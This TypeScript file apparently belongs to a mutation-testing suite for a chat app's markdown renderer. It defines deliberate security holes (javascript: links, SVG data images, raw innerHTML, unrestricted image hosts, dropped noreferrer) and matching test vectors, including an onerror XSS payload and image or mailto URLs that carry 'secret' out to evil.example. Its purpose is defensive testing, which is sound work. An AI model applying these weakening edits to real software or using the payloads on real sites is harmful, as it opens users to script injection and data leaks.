/** Lists that are one entry too wide, and rules that are left out: a run has to notice each. */
import type { SourceEdit } from './build-pages.ts';
import type { Vector } from './vector.ts';

/** A deliberate hole. */
export interface Mutant {
  readonly name: string;
  readonly edits: readonly SourceEdit[];
}

const LINKS = 'src/markdown/link-policy.ts';
const IMAGES = 'src/markdown/image-policy.ts';
const CODE = 'src/markdown/code-block.ts';
const RENDER = 'src/markdown/render.ts';
const SOURCE = 'src/images/source.ts';
const MESSAGE = 'src/element/message.ts';

const mutant = (
  name: string,
  file: string,
  ...changes: readonly (readonly [find: string, replace: string])[]
): Mutant => ({
  name,
  edits: changes.map(([find, replace]) => ({ file, find, replace })),
});

/** All of them. */
export const MUTANTS: readonly Mutant[] = [
  mutant(
    'a link may be ftp',
    LINKS,
    ['/^https?:\\/\\/[^/?#]/i', '/^(?:https?|ftp):\\/\\/[^/?#]/i'],
    ["url.protocol !== 'https:' &&", "url.protocol !== 'ftp:' && url.protocol !== 'https:' &&"],
  ),
  mutant('a link may be a script', LINKS, [
    'if (/^mailto:/i.test(href))',
    "if (/^java/i.test(href)) return { href, host: '', shownHost: null };\n  if (/^mailto:/i.test(href))",
  ]),
  mutant(
    'a link may name a user',
    LINKS,
    ["url.username !== '' || url.password !== '' || ", ''],
    [' || /^https?:\\/\\/[^/?#]*@/i.test(href)', ''],
  ),
  mutant('a mail may have a text', LINKS, ['{ href: `mailto:${address}`', '{ href']),
  mutant('a link tells where it was clicked', RENDER, ['rel="noopener noreferrer nofollow ugc"', 'rel="nofollow ugc"']),
  mutant('a link opens in this tab', RENDER, ['target="_blank"', 'target="_self"']),
  mutant('a picture may be SVG', IMAGES, ['readonly RegExp[] = [', 'readonly RegExp[] = [/^data:image\\/svg/,']),
  mutant('a picture may come from anywhere', IMAGES, ['return isAllowed ?', 'return isAllowed || true ?']),
  mutant('a picture of an artifact may come from anywhere', SOURCE, [
    'return isAllowed ?',
    'return isAllowed || true ?',
  ]),
  mutant('a picture of an artifact may be SVG', SOURCE, [
    'readonly RegExp[] = [',
    'readonly RegExp[] = [/^data:image\\/svg/,',
  ]),
  mutant('a message may choose a class', CODE, [
    '<div class="code" dir="ltr">',
    '<div class="code ${block.language}" dir="ltr">',
  ]),
  mutant('a message may choose an id', RENDER, ['<p dir="auto">', '<p dir="auto" id="x">']),
  mutant('plain text is read as HTML', MESSAGE, [
    'class="bubble" dir="auto">${visibleText(content)}</div>',
    'class="bubble" dir="auto" .innerHTML=${content}></div>',
  ]),
];

/** What gets through those holes, and through no other. */
export const THROUGH: readonly Vector[] = [
  ['markdown', '[a](ftp://evil.example/a) [b](https://bank.example@evil.example/) [c](https://shop.example/)'],
  ['markdown', `[a](${['java', 'script'].join('')}:alert(1))`],
  ['markdown', '[a](mailto:a@evil.example?body=secret)'],
  ['markdown', '![a](https://evil.example/?q=secret) ![b](data:image/svg+xml,<svg/>)'],
  ['markdown', 'words\n\n```evil\ncode\n```'],
  ['html', '<img src=x onerror=alert(1)>'],
  ['url', 'https://evil.example/a.png?q=secret'],
  ['url', 'data:image/svg+xml,%3Csvg/%3E'],
].map(([kind, payload], at) => ({
  id: `through-${String(at)}`,
  kind: kind === 'html' || kind === 'url' ? kind : 'markdown',
  payload: payload ?? '',
}));
